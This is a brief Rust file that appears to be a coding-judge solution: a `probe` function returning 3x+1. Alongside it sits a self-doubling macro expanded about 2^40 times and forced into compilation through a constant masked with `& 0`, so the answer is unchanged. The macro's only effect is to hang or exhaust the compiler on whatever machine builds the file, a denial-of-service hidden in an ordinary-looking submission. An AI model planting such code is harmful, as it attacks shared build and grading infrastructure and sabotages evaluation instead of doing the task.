// Makes rustc expand a macro that doubles itself 40 levels deep (2^40 expansions).
macro_rules! bomb {
    () => { 1u64 };
    ($h:tt $($t:tt)*) => { bomb!($($t)*) + bomb!($($t)*) };
}

const BOOM: u64 = bomb!(a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a a);

impl Solution {
    pub fn probe(x: i64) -> i64 {
        3 * x + 1 + (BOOM & 0) as i64
    }
}
